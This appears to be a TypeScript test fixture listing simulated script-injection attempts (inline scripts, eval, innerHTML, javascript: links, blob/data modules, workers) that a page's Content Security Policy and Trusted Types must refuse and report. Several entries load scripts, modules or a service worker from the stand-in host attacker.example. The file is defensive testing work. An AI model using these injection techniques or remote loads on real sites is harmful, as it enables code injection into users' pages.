/** What an injected script would try. */
export type Intrusion = {
  readonly what: string;
  /** Runs in the page. */
  readonly attempt: () => unknown;
  /** What the watch over every test has to report of it. */
  readonly reported: RegExp;
  /** Runs in the page: 'done' where the attempt worked. Absent where only a server of the attacker's could know. */
  readonly trace?: () => unknown;
};

/** Where trusted types refuse first, the directive behind them has nothing left to report. */
const sink = /^policy violation: require-trusted-types-for/;

const planted = () => Reflect.get(globalThis, 'planted');

/** Ways to run an attacker's code. */
export const codeIntrusions: readonly Intrusion[] = [
  {
    what: 'an inline script',
    attempt: () => {
      const script = document.createElement('script');
      script.append('globalThis.planted = "done"');
      document.body.append(script);
    },
    reported: /^policy violation: (script-src-elem inline|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'a script from a string',
    attempt: () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.planted = "done"';
      document.body.append(script);
    },
    reported: sink,
    trace: planted,
  },
  {
    what: 'an inline handler',
    attempt: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.planted = "done"');
      button.click();
    },
    reported: /^policy violation: (script-src-attr inline|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'a javascript: link',
    attempt: () => {
      const link = document.createElement('a');
      link.setAttribute('href', 'javascript:void (globalThis.planted = "done")');
      document.body.append(link);
      link.click();
    },
    reported: /^policy violation: (script-src-elem inline|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'markup from a string',
    attempt: () => {
      document.body.innerHTML = '<h1>planted</h1>';
    },
    reported: sink,
    trace: () => (document.body.textContent?.includes('planted') ? 'done' : undefined),
  },
  {
    what: 'a frame from a string',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.planted = "done"</script>';
      document.body.append(frame);
    },
    reported: sink,
    trace: planted,
  },
  {
    what: 'a page from a string',
    attempt: () => document.write('<script>globalThis.planted = "done"</script>'),
    reported: sink,
    trace: planted,
  },
  {
    what: 'a trusted types policy of its own',
    attempt: () => {
      // No type knows trusted types yet.
      Reflect.get(globalThis, 'trustedTypes').createPolicy('default', { createHTML: String });
      Reflect.set(globalThis, 'planted', 'done');
    },
    reported: /^policy violation: trusted-types/,
    trace: planted,
  },
  {
    what: 'eval',
    attempt: () => {
      // oxlint-disable-next-line no-eval -- the policy has to refuse exactly this
      globalThis.eval('globalThis.planted = "done"');
    },
    reported: /^policy violation: (script-src eval|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'a function from a string',
    attempt: () => {
      // oxlint-disable-next-line no-new-func, no-implied-eval -- the policy has to refuse exactly this
      new Function('globalThis.planted = "done"')();
    },
    reported: /^policy violation: (script-src eval|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'a timer with a string',
    attempt: () => {
      // oxlint-disable-next-line no-implied-eval -- the policy has to refuse exactly this
      setTimeout('globalThis.planted = "done"');
    },
    reported: /^policy violation: (script-src eval|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'a module in a data: address',
    attempt: () => {
      const address = 'data:text/javascript,globalThis.planted = "done"';
      void import(address).catch(() => undefined);
    },
    reported: /^policy violation: script-src-elem data/,
    trace: planted,
  },
  {
    what: 'a module in a blob: address',
    attempt: () => {
      const file = new Blob(['globalThis.planted = "done"'], { type: 'text/javascript' });
      void import(URL.createObjectURL(file)).catch(() => undefined);
    },
    reported: /^policy violation: script-src-elem blob/,
    trace: planted,
  },
  {
    what: 'a module from elsewhere',
    attempt: () => {
      const address = 'https://attacker.example/module.js';
      void import(address).catch(() => undefined);
    },
    reported: /^policy violation: script-src-elem https:\/\/attacker\.example/,
  },
  {
    what: 'a script from elsewhere',
    attempt: () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://attacker.example/script.js');
      document.body.append(script);
    },
    reported: /^policy violation: (script-src-elem https:\/\/attacker\.example|require-trusted-types-for)/,
  },
  {
    what: 'a worker',
    attempt: () => {
      const file = new Blob(['postMessage(1)'], { type: 'text/javascript' });
      const worker = new Worker(URL.createObjectURL(file));
      worker.addEventListener('message', () => Reflect.set(globalThis, 'planted', 'done'));
    },
    reported: /^policy violation: (worker-src|require-trusted-types-for)/,
    trace: planted,
  },
  {
    what: 'a service worker',
    attempt: () => {
      void navigator.serviceWorker.register('https://attacker.example/worker.js').catch(() => undefined);
    },
    reported: /^policy violation: (worker-src|require-trusted-types-for)/,
  },
];
